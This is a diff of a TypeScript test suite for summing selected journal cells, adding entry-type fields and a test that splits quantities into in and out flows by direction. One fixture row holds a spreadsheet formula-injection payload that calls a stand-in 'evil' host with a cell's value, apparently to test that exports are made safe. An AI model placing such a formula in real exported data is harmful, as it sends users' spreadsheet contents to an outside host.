@@ -8,6 +8,7 @@ const fields = ['Description', 'PostingDate', 'Quantity', 'Amount', 'ItemNo'].fl
   (name) => journalField(name) ?? [],
 );
 const lines: JournalRow[] = Array.from({ length: 20 }, (_, at) => ({
+  EntryType: 'Purchase',
   Description: at === 1 ? '=HYPERLINK("http://evil/?"&A1)' : at === 2 ? 'two\tcells\nor lines' : `line ${at}`,
   PostingDate: at === 3 ? '0001-01-01' : '2026-11-15',
   Quantity: at === 4 ? 0.1234567 : at,
@@ -43,7 +44,7 @@ describe('selected cells', () => {
     const cells = ['EAST', 'WEST'].flatMap((over, at) =>
       amount ? [{ at, over, field: { ...amount, name: `Amount.net@${over}` } }] : [],
     );
-    const row = { 'Amount.net@EAST': 1.5, 'Amount.net@WEST': 2, Amount: 3.5 };
+    const row = { 'Amount.net@EAST': 1.5, 'Amount.net@WEST': 2, Amount: 3.5, EntryType: 'Output' };
     expect(sumsOf([{ row, level: null, cells }])).toEqual([['Amount across', '3.5']]);
     const whole = amount ? [{ at: 2, field: amount }] : [];
     expect(sumsOf([{ row, level: null, cells: [...cells, ...whole] }])).toEqual([
@@ -52,8 +53,26 @@ describe('selected cells', () => {
     ]);
   });
 
+  it('count by their direction, and have no sum over several units', () => {
+    const rows: JournalRow[] = [
+      { EntryType: 'Purchase', UnitofMeasureCode: 'PCS', Quantity: 2, Amount: 1 },
+      { EntryType: 'Sale', UnitofMeasureCode: 'pcs', Quantity: 5, Amount: 0.3 },
+      { EntryType: 'Sale', ValueEntryType: 'Revaluation', UnitofMeasureCode: 'PCS', Quantity: 7, Amount: 4 },
+      { EntryType: 'Transfer', UnitofMeasureCode: 'PCS', Quantity: 9, Amount: 8 },
+    ];
+    const { measures, left } = figuresOf(band(rows, 2, 3));
+    expect(measures).toMatchObject([
+      { sum: '-3', flows: { in: '2', out: '5' } },
+      { sum: '-3.3', flows: { in: '1', out: '4.3' } },
+    ]);
+    expect(left).toEqual({ uncounted: [], moved: 1, revalued: 1 });
+    const boxed = { ...rows[0], UnitofMeasureCode: 'BOX' };
+    expect(figuresOf(band([...rows, boxed], 2, 2)).measures).toMatchObject([{ sum: null }]);
+  });
+
   it('are added up once where sums of them are selected too', () => {
-    const [total, part] = [band([{ Amount: 9 }], 3, 3, 0), band([{ Amount: 5 }], 3, 3, 1)];
+    const summed = (Amount: number, level: number) => band([{ EntryType: 'Purchase', Amount }], 3, 3, level);
+    const [total, part] = [summed(9, 0), summed(5, 1)];
     expect(figuresOf([...bandOf(0, 1, 3, 3), ...part, ...total]).measures[0]?.sum).toBe('0.2');
     expect(figuresOf([...part, ...total]).measures[0]?.sum).toBe('5');
     expect(figuresOf(total).measures[0]?.sum).toBe('9');
